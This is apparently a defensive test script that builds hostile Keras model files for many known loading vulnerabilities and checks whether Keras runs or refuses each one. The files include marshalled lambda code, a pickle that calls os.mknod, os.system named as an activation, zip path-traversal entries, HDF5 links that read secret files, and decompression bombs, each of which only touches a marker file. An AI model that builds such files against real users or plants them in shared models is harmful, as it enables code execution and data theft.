"""Files that attack who loads them: every hole that loading in Keras has had.

    python -m tests.hostile

prints which of them Keras alone loads, runs or refuses, each in a process of its own.
Each tries to make the file `ran` in a folder; whoever finds it has run foreign code.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import h5py
import numpy as np

WIDTH, CLASSES = 4, 3


def ran(folder: Path) -> bool:
    """Return whether an attack came through."""
    return (folder / "ran").exists()


def part(name, module="keras.layers", registered=None, /, **config):
    """Return how a configuration names a class."""
    return {
        "module": module,
        "class_name": name,
        "config": config,
        "registered_name": registered,
    }


def function(name, module="builtins", registered="function"):
    """Return how a configuration names a function."""
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": registered,
    }


def sequential(*layers, batch=(None, WIDTH), dtype="float32"):
    """Return the configuration of a network of these layers, then a dense one."""
    first = part("InputLayer", batch_shape=list(batch), dtype=dtype, name="in")
    last = part("Dense", units=CLASSES, activation="softmax", name="last")
    last["build_config"] = {"input_shape": list(batch)}
    inside = {"name": "net", "layers": [first, *layers, last]}
    return part("Sequential", "keras", None, **inside)


def weights(edit: Callable[[h5py.File], None] | None = None) -> bytes:
    """Return weights of the dense layer alone, as Keras writes them; then edited."""
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        inside = file.create_group("layers/dense/vars")
        inside["0"] = np.zeros((WIDTH, CLASSES), "float32")
        inside["1"] = np.zeros((CLASSES,), "float32")
        if edit is not None:
            edit(file)
    return content.getvalue()


def write(path: Path, config, content: bytes | None = None, more=()) -> None:
    """Write a `.keras` file.

    Args:
        path: where to.
        config: of the network; bytes as they are.
        content: of the weights.
        more: pairs of names and contents of further entries.
    """
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        archive.writestr("config.json", text)
        archive.writestr("model.weights.h5", content or weights())
        for name, inside in more:
            archive.writestr(name, inside)


def code(folder: Path) -> dict:
    """Return a lambda whose code makes the file `ran`."""
    text = f"lambda x: (open({str(folder / 'ran')!r}, 'w').close(), x)[1]"
    compiled = eval(text).__code__
    inside = base64.b64encode(marshal.dumps(compiled)).decode()
    value = {"code": inside, "defaults": None, "closure": None}
    return {"class_name": "__lambda__", "config": {"value": value}}


class Touch:
    """Makes the file `ran` when it is unpickled."""

    def __init__(self, folder: Path) -> None:
        self.place = str(folder / "ran")

    def __reduce__(self):
        return os.mknod, (self.place,)


def pickled(folder: Path) -> str:
    return base64.b64encode(pickle.dumps(Touch(folder))).decode()


def _lambda(path, folder):
    shape = {"output_shape": [WIDTH]}
    write(path, sequential(part("Lambda", function=code(folder), name="l", **shape)))


def _unsafe(path, folder):
    """Switch the safe mode off first, then hold a lambda (CVE-2025-9906)."""
    off = function("enable_unsafe_deserialization", "keras.config")
    first = part("Activation", activation=off, name="off")
    second = part("Lambda", function=code(folder), output_shape=[WIDTH], name="l")
    write(path, sequential(first, second))


def _named(module, name, **more):
    def make(path, folder):
        given = function(name, module, **more)
        write(path, sequential(part("Activation", activation=given, name="a")))

    return make


def _imported(path, folder):
    """Name a module that lies beside the file, and runs when it is imported."""
    (folder / "evil.py").write_text(f"open({str(folder / 'ran')!r}, 'w').close()\n")
    write(path, sequential(part("Layer", "evil", name="evil")))


def _class(name, module="keras.layers", /, **config):
    def make(path, folder):
        write(path, sequential(part(name, module, name="a", **config)))

    return make


def _torch(path, folder):
    given = {"module": pickled(folder), "name": "t", "output_shape": [WIDTH]}
    write(path, sequential(part("TorchModuleWrapper", **given)))


def _whole(path, folder):
    """The whole file asks for a class that is none of Keras's."""
    write(path, part("Popen", "subprocess", args=["touch", str(folder / "ran")]))


def _legacy(path, folder):
    """A file of the older format with a lambda (CVE-2025-9905)."""
    layers = [
        {
            "class_name": "InputLayer",
            "config": {"batch_shape": [None, WIDTH], "dtype": "float32", "name": "in"},
        },
        {
            "class_name": "Lambda",
            "config": {
                "name": "l",
                "function": [code(folder)["config"]["value"]["code"], None, None],
                "function_type": "lambda",
                "output_shape": [WIDTH],
            },
        },
    ]
    config = {"class_name": "Sequential", "config": {"name": "n", "layers": layers}}
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "3.15.1"
        file.create_group("model_weights").attrs["layer_names"] = []


def _vocabulary(given, layer="StringLookup"):
    def make(path, folder):
        (folder / "secret.txt").write_text("root\nsecret\n")
        place = str(folder / "secret.txt") if given is None else given
        lookup = part(layer, vocabulary=place, name="v")
        write(path, sequential(lookup, batch=(None, 1), dtype="string"))

    return make


def _h5(edit):
    def make(path, folder):
        (folder / "secret.bin").write_bytes(bytes(4096))
        with h5py.File(folder / "other.h5", "w") as file:
            file["x"] = np.ones((WIDTH, CLASSES), "float32")
            file.create_group("vars")["0"] = np.ones((WIDTH, CLASSES), "float32")
        write(path, sequential(), weights(lambda file: edit(file, folder)))

    return make


def _external_link(file, folder):
    del file["layers/dense/vars/0"]
    link = h5py.ExternalLink(str(folder / "other.h5"), "/x")
    file["layers/dense/vars"]["0"] = link


def _external_group(file, folder):
    del file["layers/dense/vars"]
    file["layers/dense"]["vars"] = h5py.ExternalLink(str(folder / "other.h5"), "/vars")


def _soft_link(file, folder):
    file["other"] = np.ones((WIDTH, CLASSES), "float32")
    del file["layers/dense/vars/0"]
    file["layers/dense/vars"]["0"] = h5py.SoftLink("/other")


def _external_storage(file, folder):
    del file["layers/dense/vars/0"]
    place = [(str(folder / "secret.bin"), 0, 4 * WIDTH * CLASSES)]
    inside = file["layers/dense/vars"]
    inside.create_dataset("0", (WIDTH, CLASSES), "float32", external=place)


def _virtual(file, folder):
    del file["layers/dense/vars/0"]
    layout = h5py.VirtualLayout((WIDTH, CLASSES), "float32")
    layout[:] = h5py.VirtualSource(str(folder / "other.h5"), "x", (WIDTH, CLASSES))
    file["layers/dense/vars"].create_virtual_dataset("0", layout)


def _shape(file, folder):
    del file["layers/dense/vars/0"]
    inside = file["layers/dense/vars"]
    inside.create_dataset("0", (2**20, 2**10), "float32", chunks=(2**10, 2**10))


def _packed_shape(file, folder):
    inside = file["layers/dense/vars"]
    big = inside.create_dataset(
        "2", (2**13, 2**13), "float32", chunks=(2**10, 2**10), compression="gzip"
    )
    big[: 2**10, : 2**10] = 0


def _wide(path, folder):
    """A network that is larger than its weights: 40 GB from a few bytes."""
    given = part("Dense", units=10**5, name="wide")
    write(path, sequential(part("Dense", units=10**5, name="first"), given))


def _bomb(name):
    def make(path, folder):
        write(path, sequential(), more=[("assets/a.txt", b"")])
        packed = zipfile.ZIP_DEFLATED
        with zipfile.ZipFile(path, "w", packed) as archive:
            texts = {"config.json": json.dumps(sequential()).encode()}
            texts["model.weights.h5"] = weights()
            texts[name] = b" " * 2**27 + texts.get(name, b"")
            for entry, content in texts.items():
                archive.writestr(entry, content)

    return make


def _entry(name):
    def make(path, folder):
        write(path, sequential(), more=[(name, b"x")])

    return make


def _nested(path, folder):
    write(path, b'{"class_name": "Sequential", "config": ' + b"[" * 10**5)


def _digits(path, folder):
    text = json.dumps(sequential()).encode()
    write(path, text.replace(b'"units": 3', b'"units": ' + b"9" * 10_000))


FILES: dict[str, Callable[[Path, Path], None]] = {
    "CVE-2024-3660, a layer of code": _lambda,
    "CVE-2025-1550, a function of any module": _named("os", "system"),
    "CVE-2025-1550, a module that is imported": _imported,
    "CVE-2025-1550, a class of any module": _whole,
    "CVE-2025-8747, a download by `get_file`": _named("keras.utils", "get_file"),
    "CVE-2025-8747, by its registered name": _named(
        "keras.activations", "get_file", registered="keras.utils>get_file"
    ),
    "CVE-2025-8747, as a class": _class(
        "get_file", "keras.utils", origin="http://127.0.0.1:1/x"
    ),
    "CVE-2025-8747, another model by `load_model`": _class(
        "load_model", "keras.models", filepath="other.h5"
    ),
    "CVE-2025-8747, a class beside the functions": _named(
        "keras.src.utils", "get_file"
    ),
    "CVE-2025-9906, safe mode off, then code": _unsafe,
    "CVE-2025-12058, a vocabulary from a file": _vocabulary(None),
    "CVE-2025-12058, of whole numbers": _vocabulary(None, "IntegerLookup"),
    "CVE-2025-12058, of text": _vocabulary(None, "TextVectorization"),
    "CVE-2025-12058, a vocabulary from the net": _vocabulary("http://127.0.0.1:1/v"),
    "CVE-2025-49655, a pickled PyTorch module": _torch,
    "a SavedModel from elsewhere": _class("TFSMLayer", filepath="/tmp/other"),
    "an entry outside of the archive": _entry("../evil"),
    "an asset outside of the assets": _entry("assets/../../evil"),
    "an absolute entry": _entry("/evil"),
    "weights as .npz": _entry("model.weights.npz"),
    "an entry that stands there twice": _entry("config.json"),
    "weights linked from another file": _h5(_external_link),
    "a group linked from another file": _h5(_external_group),
    "weights linked inside": _h5(_soft_link),
    "CVE-2026-1669, weights stored in another file": _h5(_external_storage),
    "weights put together from other files": _h5(_virtual),
    "CVE-2026-0897, weights of 4 GB in a few bytes": _h5(_shape),
    "weights of 256 MB in a few bytes, packed": _h5(_packed_shape),
    "a network of 40 GB in a few bytes": _wide,
    "a configuration of 128 MB, packed": _bomb("config.json"),
    "weights of 128 MB, packed": _bomb("model.weights.h5"),
    "a configuration nested 100,000 deep": _nested,
    "a number of 10,000 digits": _digits,
}
"""Of `.keras` files, what each does and how it is written."""

LEGACY = {
    "CVE-2025-9905, a layer of code in a .h5 file": "a.h5",
    "CVE-2025-9905, under the name .keras": "a.keras",
    "CVE-2025-9905, under the name .hdf5": "a.hdf5",
}
"""Of the older format, by the name of the file."""


def written(what: str, folder: Path) -> Path:
    """Write one of the files, and return where it is."""
    if what in LEGACY:
        _legacy(folder / LEGACY[what], folder)
        return folder / LEGACY[what]
    FILES[what](folder / "a.keras", folder)
    return folder / "a.keras"


ALONE = """
import sys, resource, warnings
warnings.simplefilter("ignore")
resource.setrlimit(resource.RLIMIT_AS, (8 * 2**30, 8 * 2**30))
import keras, numpy as np
network = keras.saving.load_model(sys.argv[1])
network.predict(np.zeros((1, 4), "float32"), verbose=0)
"""


def main() -> None:
    """Print what Keras alone does with each file."""
    for what in [*FILES, *LEGACY]:
        with tempfile.TemporaryDirectory() as name:
            folder = Path(name)
            path = written(what, folder)
            done = subprocess.run(
                [sys.executable, "-c", ALONE, str(path)],
                cwd=folder,
                capture_output=True,
                text=True,
                check=False,
            )
            last = (done.stderr.strip().splitlines() or [""])[-1][:60]
            word = "loaded" if done.returncode == 0 else f"refused: {last}"
            print(f"| {what} | {'code ran' if ran(folder) else word} |", flush=True)


if __name__ == "__main__":
    main()
